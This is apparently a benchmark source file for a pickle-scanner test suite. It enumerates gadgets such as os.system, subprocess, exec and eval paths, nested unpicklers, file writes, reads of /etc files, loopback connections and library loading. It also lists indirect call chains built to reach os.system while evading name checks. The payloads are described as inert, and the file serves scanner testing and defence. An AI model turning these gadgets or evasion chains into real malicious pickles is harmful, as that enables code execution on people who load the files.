"""
Names that do harm when a pickle calls them.

They open files, start programs, connect, evaluate text, or lead to a name that does.

Every payload is inert: it touches the file that `WEIGHBRIDGE_MARKER` names, fails without that
variable, or names a file in the current, empty directory. Connections go to a closed port of
the loopback interface.
"""

import importlib
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from types import ModuleType
from typing import Final

from benchmarks.scan.assemble import Build, Call, Items, Node, Ref, stream
from benchmarks.scan.samples import ARGV, MARKER_NAME, PYTHON, SHELL, Sample, single

GROUP: Final = "pickle: gadgets"

_LOADERS: Final = ("pickle",)
_MODULES: Final = "importlib.import_module"


@dataclass(frozen=True, slots=True, kw_only=True)
class Gadget:
    """A description of a harmful value; *inert* gadgets only have to be found."""

    id: str
    node: Node
    references: tuple[str, ...] = ()
    proven: bool = True


def _ref(dotted: str) -> Ref:
    """Return a reference: `module:name`."""
    module, _, name = dotted.partition(":")
    return Ref(module, name)


def _call(dotted: str, *args: Node) -> Call:
    return Call(_ref(dotted), args)


def _gadget(node: Call, *references: str, suffix: str = "", proven: bool = True) -> Gadget:
    target = node.target
    label = f"{target.module}.{target.name}" if isinstance(target, Ref) else "chain"
    return Gadget(id=label + suffix, node=node, references=references, proven=proven)


_COMPILED: Final = _call("builtins:compile", PYTHON, "weighbridge", "exec")
_OS: Final = _call("importlib:import_module", "os")
_NESTED: Final = stream(_call("os:system", SHELL), protocol=2)
_LINE: Final[list[Node]] = [*ARGV]
_PORT: Final = 9
_HOST: Final = "127.0.0.1"


def _commands() -> Iterator[Gadget]:
    """Yield what starts programs."""
    for name in (
        "os:system",
        "posix:system",
        "os:popen",
        "subprocess:getoutput",
        "subprocess:getstatusoutput",
        "imaplib:IMAP4_stream",
        "_osx_support:_read_output",
        "_aix_support:_read_cmd_output",
        "torch.utils.collect_env:run",
    ):
        yield _gadget(_call(name, SHELL))
    for name in (
        "subprocess:Popen",
        "subprocess:run",
        "subprocess:call",
        "subprocess:check_call",
        "subprocess:check_output",
        "distutils.spawn:spawn",
        "setuptools._distutils.spawn:spawn",
        "pty:spawn",
    ):
        yield _gadget(_call(name, _LINE))
    for name in ("os:execv", "os:execvp", "posix:execv"):
        yield _gadget(_call(name, "/bin/sh", _LINE))
    for name in ("os:execl", "os:execlp"):
        yield _gadget(_call(name, "/bin/sh", *ARGV))
    for name in ("os:spawnv", "os:spawnvp"):
        yield _gadget(_call(name, 0, "/bin/sh", _LINE))
    for name in ("os:spawnl", "os:spawnlp"):
        yield _gadget(_call(name, 0, "/bin/sh", *ARGV))
    for name in ("os:posix_spawn", "os:posix_spawnp", "posix:posix_spawn"):
        yield _gadget(_call(name, "/bin/sh", _LINE, _ref("os:environ")))
    yield _gadget(_call("os:fork"), proven=False)
    yield _gadget(_call("os:kill", 0, 0), proven=False)
    yield _gadget(
        _call("uuid:_get_command_stdout", *ARGV), "GHSA-g38g-8gr9-h9xp", "GHSA-5hwf-rc88-82xm"
    )
    yield _gadget(
        _call(
            "multiprocessing.util:spawnv_passfds", b"/bin/sh", [b"sh", b"-c", SHELL.encode()], ()
        ),
        "GHSA-q5qq-mvfm-j35x",
    )
    yield _gadget(
        _call(
            "asyncio.unix_events:_UnixSubprocessTransport._start",
            Items(Call(Ref("builtins", "dict")), ()),
            SHELL,
            True,
            None,
            None,
            None,
            0,
        ),
        "GHSA-f7qq-56ww-84cr",
        "GHSA-q77w-mwjj-7mqx",
        "CVE-2025-10157",
    )
    yield _gadget(_call("pydoc:pipepager", "text", SHELL))
    yield _gadget(_call("pydoc:tempfilepager", "text", SHELL + " #"))
    yield _gadget(
        _call(
            "mailcap:findmatch",
            Items(
                Call(Ref("builtins", "dict")),
                (
                    (
                        "a/b",
                        [Items(Call(Ref("builtins", "dict")), (("test", SHELL), ("view", "x")))],
                    ),
                ),
            ),
            "a/b",
        )
    )
    yield _gadget(
        _call("test.support.script_helper:assert_python_ok", "-c", PYTHON), "GHSA-g38g-8gr9-h9xp"
    )
    yield _gadget(_call("test.support.script_helper:spawn_python", "-c", PYTHON))
    yield _gadget(
        _call(
            "torch.utils.collect_env:run_and_read_all", _ref("torch.utils.collect_env:run"), SHELL
        ),
        "GHSA-jhph-76pp-mggw",
    )
    yield _gadget(_call("webbrowser:open", "http://127.0.0.1:9/"))
    yield _gadget(_call("webbrowser:get", SHELL + " %s"), proven=False)
    yield _gadget(
        _call("pip:main", ["--version"]), "CVE-2025-1716", "GHSA-655q-fx9r-782v", proven=False
    )
    yield _gadget(_call("pip._internal:main", ["--version"]), "CVE-2025-1716", proven=False)
    yield _gadget(_call("ensurepip:_run_pip", ["--version"]), "GHSA-xp4f-hrf8-rxw7")
    yield _gadget(_call("venv:create", MARKER_NAME), "GHSA-vqmv-47xg-9wpr")
    yield _gadget(_call("platform:_syscmd_ver"), proven=False)
    yield _gadget(_call("ctypes.util:_findLib_gcc", "c"), proven=False)
    yield _gadget(_call("torch._inductor.codecache:compile_file", "", "", _LINE), proven=False)
    yield _gadget(_call("multiprocessing.popen_spawn_posix:Popen", None), proven=False)
    yield _gadget(_call("asyncio:create_subprocess_shell", SHELL), proven=False)
    yield _gadget(_call("nt:system", SHELL), proven=False)
    yield _gadget(_call("commands:getoutput", SHELL), proven=False)
    yield _gadget(_call("popen2:popen2", SHELL), proven=False)
    yield _gadget(
        _call("_pyrepl.pager:pipe_pager", "text", SHELL), "GHSA-g38g-8gr9-h9xp", proven=False
    )
    yield _gadget(_call("pandas.io.clipboard:init_osx_pbcopy_clipboard"), proven=False)


def _evaluators() -> Iterator[Gadget]:
    """Yield what evaluates text as Python."""
    for name in (
        "builtins:eval",
        "builtins:exec",
        "timeit:timeit",
        "timeit:repeat",
        "cProfile:run",
        "profile:run",
        "numpy.f2py.crackfortran:myeval",
    ):
        ran = {"cProfile:run": "GHSA-49gj-c84q-6qm9", "profile:run": "GHSA-7wx9-6375-f5wh"}
        yield _gadget(_call(name, PYTHON), *([ran[name]] if name in ran else []))
    empty = Call(Ref("builtins", "dict"))
    for name in ("cProfile:runctx", "profile:runctx"):
        yield _gadget(_call(name, PYTHON, empty, empty), "GHSA-9w88-8rmg-7g2p")
    yield _gadget(_call("timeit:main", ["-n1", "-r1", PYTHON]))
    yield _gadget(
        _call(
            "code:InteractiveInterpreter.runsource", _call("code:InteractiveInterpreter"), PYTHON
        ),
        "GHSA-q5qq-mvfm-j35x",
    )
    yield _gadget(
        _call(
            "code:InteractiveInterpreter.runcode", _call("code:InteractiveInterpreter"), _COMPILED
        ),
        "GHSA-cj3c-v495-4xqh",
    )
    yield _gadget(_call("code:InteractiveConsole.push", _call("code:InteractiveConsole"), PYTHON))
    yield _gadget(_call("bdb:Bdb.run", _call("bdb:Bdb"), PYTHON))
    yield _gadget(_call("bdb:Bdb.runctx", _call("bdb:Bdb"), PYTHON, empty, empty))
    yield _gadget(_call("trace:Trace.run", _call("trace:Trace"), PYTHON), "GHSA-5qwp-399c-mjwf")
    yield _gadget(
        _call("trace:Trace.runctx", _call("trace:Trace"), PYTHON, empty, empty),
        "GHSA-g344-hcph-8vgg",
    )
    yield _gadget(
        _call("cProfile:Profile.run", _call("cProfile:Profile"), PYTHON), "GHSA-x696-vm39-cp64"
    )
    yield _gadget(
        _call("cProfile:Profile.runctx", _call("cProfile:Profile"), PYTHON, empty, empty),
        "GHSA-6vqj-c2q5-j97w",
    )
    yield _gadget(_call("profile:Profile.run", _call("profile:Profile"), PYTHON))
    yield _gadget(_call("runpy:_run_code", _COMPILED, empty))
    yield _gadget(_call("runpy:_run_module_code", _COMPILED))
    yield _gadget(_call("runpy:run_module", "this"), "GHSA-wfq2-52f7-7qvj", proven=False)
    yield _gadget(_call("runpy:run_path", "missing.py"), "GHSA-q5qq-mvfm-j35x", proven=False)
    yield _gadget(_call("doctest:debug_script", PYTHON, True), "GHSA-fqq6-7vqf-w3fg", proven=False)
    yield _gadget(_call("pdb:run", PYTHON), "GHSA-46h3-79wf-xr6c", proven=False)
    yield _gadget(_call("idlelib.calltip:get_entity", PYTHON), "GHSA-9xph-j2h6-g47v", proven=False)
    for name, known in (
        ("idlelib.debugobj:ObjectTreeItem.SetText", "GHSA-3vg9-h568-4w9m"),
        ("idlelib.autocomplete:AutoComplete.get_entity", "GHSA-6w4w-5w54-rjvr"),
        ("idlelib.autocomplete:AutoComplete.fetch_completions", "GHSA-7cq8-mj8x-j263"),
        ("idlelib.calltip:Calltip.fetch_tip", "GHSA-8r4j-24qv-fmq9"),
        ("idlelib.run:Executive.runcode", "GHSA-m869-42cg-3xwr"),
        ("idlelib.pyshell:ModifiedInterpreter.runcommand", "GHSA-j343-8v2j-ff7w"),
        ("idlelib.pyshell:ModifiedInterpreter.runcode", "GHSA-3gf5-cxq9-w223"),
        ("torch._dynamo.guards:GuardBuilder.get", "GHSA-86cj-95qr-2p4f"),
        (
            "torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression",
            "GHSA-f4x7-rfwp-v3xw",
        ),
    ):
        yield _gadget(_call(name, empty, PYTHON), known, proven=False)
    yield _gadget(
        _call("torch.utils.bottleneck.__main__:run_cprofile", PYTHON, empty),
        "GHSA-4r9r-ch6f-vxmx",
        proven=False,
    )
    yield _gadget(
        _call("torch.utils.bottleneck.__main__:run_autograd_prof", PYTHON, empty),
        "GHSA-4whj-rm5r-c2v8",
        proven=False,
    )
    yield _gadget(
        _call("torch.jit.unsupported_tensor_ops:execWrapper", PYTHON, empty, empty),
        "GHSA-vr7h-p6mm-wpmh",
    )
    yield _gadget(_call("torch.fx.graph_module:_exec_with_source", PYTHON, empty))
    yield _gadget(_call("torch.fx.graph_module:_forward_from_src", f"forward = {PYTHON}", empty))
    yield _gadget(
        _call("lib2to3.pgen2.pgen:ParserGenerator.make_label", None, empty, '""+' + PYTHON),
        "GHSA-p9w7-82w4-7q8m",
        proven=False,
    )
    yield _gadget(_call("numpy.f2py.crackfortran:getlincoef", PYTHON, []), "GHSA-r8g5-cgf2-4m4m")
    yield _gadget(
        _call("numpy.f2py.crackfortran:_eval_length", PYTHON, empty), "GHSA-r8g5-cgf2-4m4m"
    )
    yield _gadget(_call("numpy.testing._private.utils:runstring", PYTHON, empty))
    yield _gadget(_call("numpy.testing:runstring", PYTHON, empty))
    yield _gadget(_call("collections:namedtuple", "N", ["a"]), proven=False)
    yield _gadget(_call("dataclasses:make_dataclass", "N", [("a", "int")]), proven=False)
    yield _gadget(
        _call(
            "typing:ForwardRef._evaluate",
            _call("typing:ForwardRef", PYTHON),
            empty,
            empty,
            _call("builtins:frozenset"),
        )
    )
    yield _gadget(_call("annotationlib:ForwardRef", PYTHON), proven=False)
    yield _gadget(_call("inspect:_signature_fromstr", None, None, PYTHON), proven=False)
    yield _gadget(_call("pandas:eval", PYTHON), proven=False)
    yield _gadget(_call("pandas.core.computation.eval:eval", PYTHON), proven=False)
    yield _gadget(_call("sympy:sympify", PYTHON))
    yield _gadget(_call("sympy.parsing.sympy_parser:parse_expr", PYTHON))
    yield _gadget(_call("sympy.core.sympify:sympify", PYTHON))
    yield _gadget(_call("sympy:lambdify", [], PYTHON), proven=False)
    yield _gadget(_call("site:execsitecustomize"), proven=False)
    yield _gadget(_call("site:addpackage", "", "missing.pth", None), proven=False)


def _unpicklers() -> Iterator[Gadget]:
    """Yield what unpickles, unmarshals or makes code of its argument."""
    for name in (
        "pickle:loads",
        "_pickle:loads",
        "pickle:_loads",
        "dill:loads",
        "cloudpickle:loads",
        "joblib.externals.cloudpickle:loads",
        "torch.storage:_load_from_bytes",
        "multiprocessing.reduction:_ForkingPickler.loads",
        "multiprocessing.reduction:ForkingPickler.loads",
    ):
        yield _gadget(_call(name, _NESTED), "GHSA-84r2-jw7c-4r5q")
    stream_of = _call("io:BytesIO", _NESTED)
    for name in (
        "pickle:load",
        "_pickle:load",
        "pickle:_load",
        "joblib:load",
        "pandas:read_pickle",
        "joblib.numpy_pickle:load",
        "dill:load",
    ):
        yield _gadget(_call(name, stream_of))
    yield _gadget(_call("numpy:load", stream_of, None, True))
    yield _gadget(_call("numpy.lib.format:read_array", _call("io:BytesIO", _npy_of(_NESTED)), True))
    yield _gadget(_call("torch:load", stream_of, None, _ref("pickle:__name__")), proven=False)
    yield _gadget(_call("torch.serialization:load", "missing.pt"), proven=False)
    yield _gadget(_call("torch.jit:load", "missing.pt"), proven=False)
    yield _gadget(_call("torch.hub:load", "owner/repository", "model"), proven=False)
    yield _gadget(_call("torch.package:PackageImporter", "missing.pt"), proven=False)
    yield _gadget(
        _call("torch.utils.data.datapipes.utils.decoder:basichandlers", "pickle", _NESTED),
        "GHSA-h3qp-7fh3-f8h4",
    )
    yield _gadget(
        _call("torch.utils._config_module:ConfigModule.load_config", None, _NESTED),
        "GHSA-vv6j-3g6g-2pvj",
    )
    yield _gadget(
        _call(
            "lib2to3.pgen2.grammar:Grammar.loads", _call("lib2to3.pgen2.grammar:Grammar"), _NESTED
        ),
        "GHSA-f54q-57x4-jg88",
    )
    yield _gadget(_call("logging.config:_clearExistingHandlers"), proven=False)
    yield _gadget(_call("marshal:loads", b"N"), "GHSA-565g-hwwr-4pp3")
    yield _gadget(
        _call("types:FunctionType", _COMPILED, Call(Ref("builtins", "dict"))),
        "GHSA-565g-hwwr-4pp3",
        proven=False,
    )
    yield Gadget(
        id="types.FunctionType-called",
        references=("GHSA-565g-hwwr-4pp3",),
        node=Call(_call("types:FunctionType", _COMPILED, Call(Ref("builtins", "dict")))),
    )
    yield _gadget(_call("types:CodeType"), proven=False)
    yield _gadget(_call("cloudpickle.cloudpickle:subimport", "antigravity"))
    yield _gadget(_call("dill._dill:_import_module", "antigravity"))
    yield _gadget(_call("dill._dill:_create_function", _COMPILED), proven=False)
    yield _gadget(_call("dill._dill:_eval_repr", PYTHON), proven=False)
    yield _gadget(_call("jsonpickle:decode", '{"py/object": "os.system"}'), proven=False)
    yield _gadget(_call("yaml:unsafe_load", f"!!python/object/apply:os.system ['{SHELL}']"))
    yield _gadget(_call("shelve:open", MARKER_NAME))
    yield _gadget(_call("joblib.numpy_pickle:NDArrayWrapper", "missing.npy", None), proven=False)
    yield _gadget(
        _call("joblib.numpy_pickle:ZNDArrayWrapper", "missing.z", None, None), proven=False
    )
    yield _gadget(
        _call("pickle:Unpickler.load", _call("pickle:_Unpickler", stream_of)), proven=False
    )
    yield _gadget(_call("pickle:_Unpickler.load", _call("pickle:_Unpickler", stream_of)))
    yield _gadget(_call("torch._weights_only_unpickler:load", stream_of), proven=False)
    yield _gadget(
        _call(
            "torch.fx.graph_module:reduce_graph_module", Call(Ref("builtins", "dict")), "import os"
        ),
        proven=False,
    )


def _npy_of(pickled: bytes) -> bytes:
    """Return a .npy of objects with *pickled* in it."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (), }"
    padding = b" " * (-(len(header) + 11) % 64)
    whole = header + padding + b"\n"
    return b"\x93NUMPY\x01\x00" + len(whole).to_bytes(2, "little") + whole + pickled


def _files() -> Iterator[Gadget]:
    """Yield what makes, changes or opens files."""
    for name in (
        "builtins:open",
        "io:open",
        "_io:open",
        "_io:FileIO",
        "codecs:open",
        "gzip:open",
        "bz2:open",
        "lzma:open",
        "gzip:GzipFile",
        "bz2:BZ2File",
        "lzma:LZMAFile",
        "zipfile:ZipFile",
        "tarfile:open",
        "tarfile:TarFile",
        "wave:open",
        "aifc:open",
        "sunau:open",
        "scipy.io:FortranFile",
        "joblib.compressor:BinaryZlibFile",
    ):
        mode = (
            "wb"
            if name in {"gzip:open", "gzip:GzipFile", "joblib.compressor:BinaryZlibFile"}
            else "w"
        )
        yield _gadget(_call(name, MARKER_NAME, mode))
    for name in (
        "os:mkdir",
        "posix:mkdir",
        "os:makedirs",
        "os:mkfifo",
        "os:mknod",
        "sqlite3:connect",
        "_sqlite3:connect",
        "logging:FileHandler",
        "logging.handlers:WatchedFileHandler",
        "logging.handlers:RotatingFileHandler",
        "logging.handlers:TimedRotatingFileHandler",
        "mailbox:mbox",
        "mailbox:Maildir",
        "mailbox:MH",
        "distutils.dir_util:mkpath",
    ):
        yield _gadget(_call(name, MARKER_NAME))
    for name in ("os:symlink", "shutil:copyfile", "shutil:copy", "shutil:copy2", "os:link"):
        yield _gadget(_call(name, "/etc/hostname", MARKER_NAME))
    for name in ("os:remove", "os:unlink", "os:rmdir", "shutil:rmtree", "os:removedirs"):
        yield _gadget(_call(name, "missing"))
    for name in ("os:rename", "os:replace", "shutil:move"):
        yield _gadget(_call(name, "missing", MARKER_NAME))
    yield _gadget(_call("os:open", MARKER_NAME, 0o101, 0o600))
    yield _gadget(_call("os:chmod", "missing", 0o600))
    yield _gadget(_call("os:truncate", "missing", 0))
    yield _gadget(_call("pathlib:Path.touch", _call("pathlib:Path", MARKER_NAME)))
    yield _gadget(_call("pathlib:Path.write_text", _call("pathlib:Path", MARKER_NAME), "x"))
    yield _gadget(_call("pathlib:Path.write_bytes", _call("pathlib:PosixPath", MARKER_NAME), b"x"))
    yield _gadget(_call("pathlib:Path.mkdir", _call("pathlib:Path", MARKER_NAME)))
    yield _gadget(_call("pathlib:Path.unlink", _call("pathlib:Path", "missing")))
    yield _gadget(_call("shutil:make_archive", MARKER_NAME, "tar"))
    yield _gadget(_call("shutil:copytree", "/etc/apt", MARKER_NAME))
    yield _gadget(_call("shutil:unpack_archive", "missing.zip"))
    yield _gadget(_call("tempfile:mkstemp", "", MARKER_NAME, "."))
    yield _gadget(_call("tempfile:mkdtemp", "", MARKER_NAME, "."))
    yield _gadget(_call("tempfile:NamedTemporaryFile", "w"))
    yield _gadget(
        _call("distutils.file_util:write_file", MARKER_NAME, ["x"]), "GHSA-m273-6v24-x4m4"
    )
    yield _gadget(_call("setuptools._distutils.file_util:write_file", MARKER_NAME, ["x"]))
    yield _gadget(_call("dbm.dumb:open", MARKER_NAME, "c"))
    yield _gadget(_call("dbm:open", MARKER_NAME, "c"))
    yield _gadget(_call("zipapp:create_archive", "missing", MARKER_NAME), proven=False)
    yield _gadget(_call("py_compile:compile", "missing.py", MARKER_NAME), proven=False)
    yield _gadget(_call("fileinput:input", "missing"), proven=False)
    yield _gadget(_call("linecache:getlines", "/etc/hostname"), proven=False)
    yield _gadget(_call("_io:FileIO", "/etc/hostname", "r"), suffix="-read", proven=False)
    yield _gadget(_call("numpy:save", MARKER_NAME, [1]))
    yield _gadget(_call("numpy:savetxt", MARKER_NAME, [1]))
    yield _gadget(_call("numpy:savez", MARKER_NAME, [1]))
    yield _gadget(_call("numpy:memmap", MARKER_NAME, "uint8", "w+", 0, (1,)))
    yield _gadget(_call("numpy.lib.format:open_memmap", MARKER_NAME, "w+", "uint8", (1,)))
    yield _gadget(_call("numpy:fromfile", "/etc/hostname", "uint8"), proven=False)
    yield _gadget(_call("numpy:genfromtxt", "/etc/hostname"), proven=False)
    yield _gadget(_call("numpy:loadtxt", "/etc/hostname"), proven=False)
    yield _gadget(_call("scipy.io:savemat", MARKER_NAME, Call(Ref("builtins", "dict"))))
    yield _gadget(_call("scipy.io:mmwrite", MARKER_NAME, [[1]]), proven=False)
    yield _gadget(_call("scipy.io.wavfile:write", MARKER_NAME, 8000, [1]), proven=False)
    yield _gadget(_call("pandas:read_csv", "/etc/hostname"), proven=False)
    yield _gadget(_call("pandas:HDFStore", MARKER_NAME), proven=False)
    yield _gadget(_call("pandas:to_pickle", [1], MARKER_NAME))
    yield _gadget(_call("pandas.io.pickle:to_pickle", [1], MARKER_NAME))
    yield _gadget(_call("joblib:dump", [1], MARKER_NAME))
    yield _gadget(_call("torch:save", [1], MARKER_NAME))
    yield _gadget(_call("torch:from_file", MARKER_NAME, True, 1))
    yield _gadget(_call("torch:UntypedStorage.from_file", MARKER_NAME, True, 1))
    yield _gadget(_call("sklearn.datasets:dump_svmlight_file", [[1]], [1], MARKER_NAME))
    yield _gadget(_call("sklearn.datasets:load_files", "."), proven=False)
    yield _gadget(_call("xgboost.core:Booster.save_model", None, MARKER_NAME), proven=False)
    yield _gadget(_call("lightgbm.basic:Booster", None, None, "missing"), proven=False)
    yield _gadget(
        _call(
            "logging.config:dictConfig",
            Items(
                Call(Ref("builtins", "dict")),
                (
                    ("version", 1),
                    (
                        "formatters",
                        Items(
                            Call(Ref("builtins", "dict")),
                            (
                                (
                                    "f",
                                    Items(
                                        Call(Ref("builtins", "dict")),
                                        (("()", "os.mkdir"), ("path", MARKER_NAME)),
                                    ),
                                ),
                            ),
                        ),
                    ),
                ),
            ),
        )
    )


def _connections() -> Iterator[Gadget]:
    """Yield what connects, resolves names or loads native libraries."""
    for name in (
        "smtplib:SMTP",
        "ftplib:FTP",
        "poplib:POP3",
        "imaplib:IMAP4",
        "nntplib:NNTP",
        "telnetlib:Telnet",
        "smtplib:LMTP",
    ):
        args: tuple[Node, ...] = (_HOST,) if name == "ftplib:FTP" else (_HOST, _PORT)
        yield _gadget(_call(name, *args), "GHSA-mxhj-88fx-4pcv")
    for name in ("socket:create_connection", "ssl:get_server_certificate"):
        yield _gadget(_call(name, (_HOST, _PORT)), "GHSA-hgrh-qx5j-jfwx")
    for name in ("socket:gethostbyname", "socket:getfqdn", "socket:gethostbyname_ex"):
        yield _gadget(_call(name, "weighbridge.invalid"))
    yield _gadget(_call("socket:getaddrinfo", "weighbridge.invalid", _PORT))
    yield _gadget(_call("urllib.request:urlopen", "http://127.0.0.1:9/"))
    yield _gadget(_call("urllib.request:urlretrieve", "http://127.0.0.1:9/"))
    yield _gadget(_call("logging.handlers:SysLogHandler", (_HOST, _PORT)), proven=False)
    yield _gadget(_call("xmlrpc.client:ServerProxy", "http://127.0.0.1:9/"), proven=False)
    yield _gadget(
        _call(
            "http.client:HTTPConnection.connect", _call("http.client:HTTPConnection", _HOST, _PORT)
        )
    )
    yield _gadget(_call("requests:get", "http://127.0.0.1:9/"), proven=False)
    yield _gadget(_call("requests.api:get", "http://127.0.0.1:9/"), proven=False)
    yield _gadget(_call("aiohttp:ClientSession"), "GHSA-hgrh-qx5j-jfwx", proven=False)
    yield _gadget(_call("multiprocessing.connection:Client", (_HOST, _PORT)))
    yield _gadget(_call("xml.sax:parse", "http://127.0.0.1:9/", None), proven=False)
    yield _gadget(
        _call("torch.hub:download_url_to_file", "http://127.0.0.1:9/", MARKER_NAME), proven=False
    )
    yield _gadget(_call("torch.hub:load_state_dict_from_url", "http://127.0.0.1:9/"), proven=False)
    yield _gadget(
        _call("numpy:DataSource.open", _call("numpy.lib.npyio:DataSource"), "http://127.0.0.1:9/x")
    )
    yield _gadget(_call("pandas:read_json", "http://127.0.0.1:9/"), proven=False)
    for name in (
        "ctypes:CDLL",
        "ctypes:PyDLL",
        "_ctypes:dlopen",
        "ctypes:cdll.LoadLibrary",
        "torch.ops:load_library",
        "torch:ops.load_library",
        "torch:classes.load_library",
        "numpy.ctypeslib:load_library",
        "sqlite3:enable_callback_tracebacks",
    ):
        args = ("missing.so", 2) if name == "_ctypes:dlopen" else ("missing.so",)
        yield _gadget(
            _call(name, *args),
            "GHSA-4675-36f9-wf6r",
            proven=name
            in {"ctypes:CDLL", "ctypes:PyDLL", "_ctypes:dlopen", "ctypes:cdll.LoadLibrary"},
        )
    yield _gadget(_call("importlib.machinery:ExtensionFileLoader", "x", "missing.so"), proven=False)
    yield _gadget(_call("imp:load_dynamic", "x", "missing.so"), proven=False)
    yield _gadget(_call("imp:load_source", "x", "missing.py"), proven=False)
    yield _gadget(_call("readline:read_init_file", "missing"), proven=False)


def _indirect() -> Iterator[Gadget]:
    """Yield what leads to a harmful name without naming it, or calls what it is given."""
    system = _ref("os:system")
    for label, function in (
        ("import_module-getattr", _call("builtins:getattr", _OS, "system")),
        (
            "__import__-getattr",
            _call("builtins:getattr", _call("builtins:__import__", "os"), "system"),
        ),
        ("resolve_name", _call("pkgutil:resolve_name", "os:system")),
        ("resolve_name-dotted", _call("pkgutil:resolve_name", "os.system")),
        ("pydoc.locate", _call("pydoc:locate", "os.system")),
        ("attrgetter", Call(_call("operator:attrgetter", "system"), (_OS,))),
        ("_attrgetter", Call(_call("_operator:attrgetter", "system"), (_OS,))),
        (
            "itemgetter",
            Call(_call("operator:itemgetter", "system"), (_call("builtins:vars", _OS),)),
        ),
        (
            "sys.modules",
            _call(
                "builtins:getattr", _call("operator:getitem", _ref("sys:modules"), "os"), "system"
            ),
        ),
        ("dict.get", _call("builtins:dict.get", _ref("os:__dict__"), "system")),
        ("object.__getattribute__", _call("builtins:object.__getattribute__", _OS, "system")),
        ("module-getattribute", _call("types:ModuleType.__getattribute__", _OS, "system")),
        (
            "unittest._importer",
            _call("builtins:getattr", _call("unittest.mock:_importer", "os"), "system"),
        ),
        (
            "logging.config.resolve",
            _call(
                "logging.config:BaseConfigurator.resolve",
                _call("logging.config:BaseConfigurator", Call(Ref("builtins", "dict"))),
                "os.system",
            ),
        ),
        ("logging.config._resolve", _call("logging.config:_resolve", "os.system")),
        ("pickle.whichmodule", _call("pickle:_getattribute", _OS, "system")),
        ("copyreg.dispatch", _call("operator:attrgetter", "system")),
        ("numpy-builtins", _call("builtins:dict.get", _ref("numpy:__builtins__"), "exec")),
        ("importlib-builtins", _call("builtins:dict.get", _ref("importlib:__builtins__"), "exec")),
        ("test-resolve", _call("pkgutil:resolve_name", "subprocess:getoutput")),
        (
            "multiprocessing-rebuild",
            _call(
                "builtins:getattr",
                _call("multiprocessing.util:_import_main_module", "os"),
                "system",
            ),
        ),
        (
            "doctest-normalize",
            _call("builtins:getattr", _call("doctest:_normalize_module", "os"), "system"),
        ),
        ("inspect.getattr_static", _call("inspect:getattr_static", _OS, "system")),
        (
            "joblib.func",
            _call(
                "builtins:getattr",
                _call("joblib.externals.cloudpickle.cloudpickle:subimport", "os"),
                "system",
            ),
        ),
        (
            "dill._getattr",
            _call("builtins:getattr", _call("dill._dill:_import_module", "os"), "system"),
        ),
        ("dill._get_attr", _call("dill._dill:_get_attr", _OS, "system")),
        ("dill._import", _call("dill._dill:_import_module", "os.system")),
        (
            "pandas.import_optional",
            _call(
                "builtins:getattr",
                _call("pandas.compat._optional:import_optional_dependency", "os"),
                "system",
            ),
        ),
        (
            "torch.package.sys",
            _call(
                "builtins:getattr",
                _call(
                    "torch.package.importer:_SysImporter.import_module",
                    _call("torch.package.importer:_SysImporter"),
                    "os",
                ),
                "system",
            ),
        ),
    ):
        command = PYTHON if label.endswith("builtins") else SHELL
        known = {
            "resolve_name": ("GHSA-vvpj-8cmc-gx39",),
            "pydoc.locate": ("GHSA-5hvc-6wx8-mvv4",),
            "attrgetter": ("GHSA-955r-x9j8-7rhh",),
            "__import__-getattr": ("GHSA-h4rm-mm56-xf63",),
        }
        yield Gadget(
            id=f"chain-{label}",
            node=Call(function, (command,)),
            references=known.get(label, ()),
            proven=label
            not in {"copyreg.dispatch", "unittest._importer", "multiprocessing-rebuild"},
        )
    yield Gadget(
        id="chain-methodcaller",
        node=Call(_call("operator:methodcaller", "system", SHELL), (_OS,)),
        references=("GHSA-955r-x9j8-7rhh",),
    )
    yield Gadget(
        id="chain-_methodcaller",
        node=Call(_call("_operator:methodcaller", "system", SHELL), (_OS,)),
    )
    yield Gadget(
        id="chain-methodcaller-locate",
        references=("GHSA-84r2-jw7c-4r5q",),
        node=Call(_call("operator:methodcaller", "system", SHELL), (_call("pydoc:locate", "os"),)),
    )
    yield Gadget(id="chain-partial", node=Call(_call("functools:partial", system, SHELL)))
    yield Gadget(id="partial-stored", node=_call("functools:partial", system, SHELL), proven=False)
    yield Gadget(
        id="chain-partialmethod", node=_call("functools:partialmethod", system, SHELL), proven=False
    )
    yield Gadget(
        id="chain-map", node=_call("builtins:list", _call("builtins:map", system, [SHELL]))
    )
    yield Gadget(
        id="chain-map-tuple", node=_call("builtins:tuple", _call("builtins:map", system, [SHELL]))
    )
    yield Gadget(
        id="chain-map-set", node=_call("builtins:set", _call("builtins:map", system, [SHELL]))
    )
    yield Gadget(
        id="chain-map-bytes", node=_call("builtins:bytes", _call("builtins:map", system, [SHELL]))
    )
    yield Gadget(
        id="chain-map-next", node=_call("builtins:next", _call("builtins:map", system, [SHELL]))
    )
    yield Gadget(id="chain-map-extend", node=_extended(system))
    yield Gadget(
        id="chain-map-deque",
        node=_call("collections:deque", _call("builtins:map", system, [SHELL])),
    )
    yield Gadget(
        id="chain-map-counter",
        node=_call("collections:Counter", _call("builtins:map", system, [SHELL])),
    )
    yield Gadget(
        id="chain-map-ordereddict",
        node=_call("collections:OrderedDict", _call("builtins:map", system, [SHELL])),
    )
    yield Gadget(
        id="chain-filter", node=_call("builtins:list", _call("builtins:filter", system, [SHELL]))
    )
    yield Gadget(
        id="chain-starmap",
        node=_call("builtins:list", _call("itertools:starmap", system, [(SHELL,)])),
    )
    yield Gadget(
        id="chain-takewhile",
        node=_call("builtins:list", _call("itertools:takewhile", system, [SHELL])),
    )
    yield Gadget(
        id="chain-accumulate",
        node=_call(
            "builtins:list", _call("itertools:accumulate", [SHELL, SHELL], _ref("os:execlp"))
        ),
        proven=False,
    )
    yield Gadget(
        id="chain-iter-sentinel",
        node=_call(
            "builtins:list", _call("builtins:iter", _call("functools:partial", system, SHELL), 0)
        ),
    )
    yield Gadget(
        id="chain-reduce",
        node=_call("functools:reduce", _ref("os:execlp"), ["touch", MARKER_NAME]),
        proven=False,
    )
    yield Gadget(
        id="chain-defaultdict",
        node=_call(
            "operator:getitem",
            _call("collections:defaultdict", _call("functools:partial", system, SHELL)),
            "x",
        ),
    )
    yield Gadget(
        id="chain-defaultdict-stored",
        node=_call("collections:defaultdict", _ref("os:getcwd")),
        proven=False,
    )
    yield Gadget(
        id="chain-weakref-finalize",
        node=_call("weakref:finalize", _ref("os:system"), system, SHELL),
    )
    yield Gadget(id="chain-atexit", node=_call("atexit:register", system, SHELL), proven=False)
    yield Gadget(
